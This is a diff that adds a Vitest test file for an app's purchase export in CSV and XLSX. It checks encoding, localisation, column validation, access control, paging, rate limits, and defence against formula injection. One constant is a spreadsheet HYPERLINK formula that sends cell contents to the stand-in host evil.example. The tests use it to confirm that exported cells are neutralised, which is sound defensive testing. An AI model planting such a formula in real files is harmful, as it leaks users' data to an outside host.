@@ -1,0 +1,241 @@
+import { execFile } from 'node:child_process'
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import path from 'node:path'
+import { pathToFileURL } from 'node:url'
+import { promisify } from 'node:util'
+import { parseCsv } from 'hucre/csv'
+import { readXlsx } from 'hucre/xlsx'
+import { sql } from 'kysely'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import type { ExportFormat } from '#shared/rules/purchases.ts'
+import { revealContact } from '#server/features/reveals/reveal-contact.ts'
+import { logIn, makeChannel, makeChannels, makePerson } from '#test/support/factories.ts'
+import { createTestApp, type TestApp } from '#test/support/test-app.ts'
+import type { TestClient } from '#test/support/test-client.ts'
+
+let world: TestApp
+beforeAll(async () => {
+  world = await createTestApp({ env: { RATE_LIMITS: 'off' } })
+})
+afterAll(() => world[Symbol.asyncDispose]())
+
+type Cell = string | number | boolean | Date | null
+
+const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"free")'
+const NOTE = '+100 €; "по; рукам", @Ann'
+
+/** A person with three purchases: an ordinary one, one with dangerous texts, and one whose address is withheld. */
+async function buyer(): Promise<{ readonly client: TestClient; readonly addresses: readonly string[] }> {
+  const { app } = world
+  const person = await makePerson(app, { uses: 3 })
+  const channels = [
+    await makeChannel(app, { name: 'Ёлка, и "лес"' }),
+    await makeChannel(app, { name: FORMULA }),
+    await makeChannel(app, { name: 'Withheld' }),
+  ]
+  for (const { channelId } of channels) await revealContact(app, { personId: person.id, channelId })
+  const client = await logIn(world, person)
+  const { data } = (await client.call('GET /purchases')).body
+  await client.call('PATCH /purchases/{transactionId}', {
+    params: { transactionId: data[1]!.transaction_id },
+    body: { version: 1, status: 'written', note: NOTE },
+  })
+  await app.db
+    .updateTable('contact')
+    .set({ suppressed_at: app.clock.now() })
+    .where('channel_id', '=', channels[2]!.id)
+    .execute()
+  return { client, addresses: channels.map(({ addresses }) => addresses[0]!) }
+}
+
+function download(client: TestClient, query: { format: ExportFormat; columns?: string }, language = 'en') {
+  return client.call('GET /exports', { query, headers: { 'accept-language': language } })
+}
+
+/** What the files say, newest first; dates are the clock's. */
+function expectedRows(addresses: readonly string[], day: Cell): Cell[][] {
+  const source: string = expect.stringMatching(/^https:\/\/videos\.example\//)
+  return [
+    ['Withheld', null, 'New', '', null, null, day],
+    [FORMULA, addresses[1]!, 'Written', NOTE, source, day, day],
+    ['Ёлка, и "лес"', addresses[0]!, 'New', '', source, day, day],
+  ]
+}
+
+const COLUMNS = 'channel_name,email,status,note,source,lastSeenAt,boughtAt'
+const HEADINGS = ['Channel', 'Address', 'Status', 'Note', 'Source', 'Seen', 'Bought']
+const today = () => world.clock.now().toISOString().slice(0, 10)
+/** An empty cell is no text in one format and an empty one in the other. */
+const filled = (rows: readonly (readonly Cell[])[]) => rows.map((row) => row.map((cell) => cell ?? ''))
+
+test('a CSV file begins with a mark for UTF-8, quotes every cell, and no cell begins like a formula', async () => {
+  const { client, addresses } = await buyer()
+  const answer = await download(client, { format: 'csv', columns: COLUMNS })
+  expect(answer.status).toBe(200)
+  expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
+  expect(answer.headers.get('content-disposition')).toBe('attachment; filename="channelbook-purchases.csv"')
+  expect(answer.headers.get('cache-control')).toBe('no-store')
+  expect([...answer.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+  for (const line of answer.text.split('\r\n')) expect(line).toMatch(/^\uFEFF?".*"$/)
+  for (const cell of answer.text.split(/^|,(?=")/m)) expect(cell).not.toMatch(/^"[-=+@\t\r]/)
+  const safe = expectedRows(addresses, today()).map((row) =>
+    row.map((cell) => (cell === FORMULA || cell === NOTE ? `'${cell}` : cell)),
+  )
+  expect(parseCsv(answer.text)).toEqual([HEADINGS, ...filled(safe)])
+})
+
+test('a Russian CSV file has Russian words, and the list separator of Russian spreadsheets', async () => {
+  const { client, addresses } = await buyer()
+  const { text } = await download(
+    client,
+    { format: 'csv', columns: 'channel_name,email,status,withheld' },
+    'ru',
+  )
+  expect(parseCsv(text, { delimiter: ';' })).toEqual([
+    ['Канал', 'Адрес', 'Статус', 'Почему нет адреса'],
+    ['Withheld', '', 'Новый', expect.stringContaining('Адрес скрыт')],
+    [`'${FORMULA}`, addresses[1], 'Написали', ''],
+    ['Ёлка, и "лес"', addresses[0], 'Новый', ''],
+  ])
+})
+
+test('a workbook has the texts exactly as they are, and dates as dates', async () => {
+  const { client, addresses } = await buyer()
+  const answer = await download(client, { format: 'xlsx', columns: COLUMNS })
+  expect(answer.headers.get('content-disposition')).toBe('attachment; filename="channelbook-purchases.xlsx"')
+  const [sheet] = (await readXlsx(answer.bytes)).sheets
+  const day = new Date(`${today()}T00:00:00Z`)
+  expect(filled(sheet!.rows)).toEqual([HEADINGS, ...filled(expectedRows(addresses, day))])
+})
+
+test('all columns come by default, the chosen ones in their order and once, and unknown ones are refused', async () => {
+  const { client } = await buyer()
+  const [all] = parseCsv((await download(client, { format: 'csv' })).text)
+  expect(all).toHaveLength(10)
+  const chosen = await download(client, { format: 'csv', columns: 'email,channel_name,email' })
+  expect(parseCsv(chosen.text)[0]).toEqual(['Address', 'Channel'])
+  for (const columns of ['', 'email,', 'person_id', 'email,handed_over_at', 'constructor']) {
+    const { status, body } = await download(client, { format: 'csv', columns })
+    expect([status, body.error?.fields]).toEqual([400, { columns: 'invalid' }])
+  }
+  const other = await client.call('GET /exports', { query: { format: 'pdf' } })
+  expect(other.body.error?.fields).toEqual({ format: 'invalid' })
+})
+
+test('a file has the person’s own purchases only, and none that were removed', async () => {
+  const [own, stranger] = [await buyer(), await buyer()]
+  await own.client.call('DELETE /rmpurchase/{userId}', {
+    params: { userId: own.client.userId! },
+    body: { channelName: FORMULA },
+  })
+  const { text } = await download(own.client, { format: 'csv', columns: 'email' })
+  expect(parseCsv(text)).toEqual([['Address'], [''], [own.addresses[0]]])
+  for (const address of stranger.addresses) expect(text).not.toContain(address)
+  const nobody = await download(world.client(), { format: 'xlsx' })
+  expect(nobody).toMatchObject({ status: 401, body: { error: { code: 'not_logged_in' } } })
+  const empty = await download(await logIn(world, await makePerson(world.app)), { format: 'csv' })
+  expect(parseCsv(empty.text)).toHaveLength(1)
+})
+
+/** A person with so many purchases, and their addresses, newest first. */
+async function manyPurchases(count: number) {
+  const { app } = world
+  const person = await makePerson(app)
+  const channels = await makeChannels(app, count)
+  const ids = channels.map(({ id }) => id)
+  await sql`
+    with bought as (
+      insert into reveal (person_id, channel_id, contact_id, created_at)
+      select ${person.id}, channel_id, id, ${app.clock.now()}
+      from contact where channel_id = any(${ids}::bigint[]) order by channel_id
+      returning person_id, id, channel_id, created_at
+    )
+    insert into purchase (person_id, reveal_id, channel_name, created_at)
+    select person_id, bought.id, name, bought.created_at from bought join channel on channel.id = channel_id
+    order by channel_id`.execute(app.db)
+  const addresses = channels.map((channel) => channel.addresses[0]!).toReversed()
+  return { client: await logIn(world, person), personId: person.id, addresses }
+}
+
+test('very many purchases come once each, in order, in the list and in both formats', async () => {
+  const { client, addresses } = await manyPurchases(1_250)
+  const { text } = await download(client, { format: 'csv', columns: 'email' })
+  expect(parseCsv(text).slice(1).flat()).toEqual(addresses)
+  const { bytes } = await download(client, { format: 'xlsx', columns: 'email' })
+  expect((await readXlsx(bytes)).sheets[0]!.rows.slice(1).flat()).toEqual(addresses)
+  const seen: (string | null)[] = []
+  for (let cursor: string | null = ''; cursor !== null; ) {
+    const query: object = { limit: 50, ...(cursor !== '' && { cursor }) }
+    const page = (await client.call('GET /purchases', { query: { ...query } })).body
+    seen.push(...page.data.map(({ email }) => email))
+    cursor = page.meta.nextCursor
+  }
+  expect(seen).toEqual(addresses)
+})
+
+test('a file that cannot be finished breaks off instead of looking whole', async () => {
+  const { client, personId } = await manyPurchases(1_001)
+  // A year that no calendar here can write, among the last to be read.
+  await sql`
+    update purchase set created_at = '200000-01-01'
+    where transaction_id = (select min(transaction_id) from purchase where person_id = ${personId})`.execute(
+    world.app.db,
+  )
+  for (const format of ['csv', 'xlsx'] as const) {
+    await expect(download(client, { format })).rejects.toThrow()
+  }
+})
+
+test('the 31st file of an hour is refused', async () => {
+  await using limited = await createTestApp({ databaseUrl: world.databaseUrl, clock: world.clock })
+  const client = await logIn(limited, await makePerson(world.app))
+  for (let count = 0; count < 30; count += 1) {
+    expect((await download(client, { format: 'csv' })).status).toBe(200)
+  }
+  expect((await download(client, { format: 'csv' })).body.error?.code).toBe('too_many_requests')
+})
+
+const run = promisify(execFile)
+const hasLibreOffice = await run('soffice', ['--version']).then(
+  () => true,
+  () => false,
+)
+/** What its dialog proposes for a CSV file: separated by commas, semicolons and tabs, UTF-8 as the file's mark says. */
+const AS_PROPOSED = '--infilter=Text - txt - csv (StarCalc):44/59/9,34,76,1'
+
+// The name of the skipped test says what is missing.
+const libreOffice = hasLibreOffice ? 'LibreOffice' : 'LibreOffice (skipped: there is no soffice here)'
+test.skipIf(!hasLibreOffice).each(['en', 'ru'])(
+  `${libreOffice} opens both formats with the same cells, runs no formula, and knows the dates, in %s`,
+  { timeout: 180_000 },
+  async (language) => {
+    const { client, addresses } = await buyer()
+    const folder = await mkdtemp(path.join(tmpdir(), 'channelbook-office-'))
+    try {
+      for (const format of ['csv', 'xlsx'] as const) {
+        const { bytes } = await download(
+          client,
+          { format, columns: 'channel_name,email,note,boughtAt' },
+          language,
+        )
+        await writeFile(path.join(folder, `given.${format}`), bytes)
+        const profile = `-env:UserInstallation=${pathToFileURL(path.join(folder, 'profile')).href}`
+        const target = ['--convert-to', 'xlsx', '--outdir', path.join(folder, format)]
+        const source = [...(format === 'csv' ? [AS_PROPOSED] : []), path.join(folder, `given.${format}`)]
+        await run('soffice', [profile, '--headless', ...target, ...source])
+        const [sheet] = (await readXlsx(await readFile(path.join(folder, format, 'given.xlsx')))).sheets
+        const day = new Date(`${today()}T00:00:00Z`)
+        // A CSV has no types: what would be a formula is a text because it begins with an apostrophe.
+        const text = (cell: string) => (format === 'csv' ? `'${cell}` : cell)
+        expect(filled(sheet!.rows.slice(1)), format).toEqual([
+          ['Withheld', '', '', day],
+          [text(FORMULA), addresses[1], text(NOTE), day],
+          ['Ёлка, и "лес"', addresses[0], '', day],
+        ])
+      }
+    } finally {
+      await rm(folder, { recursive: true })
+    }
+  },
+)
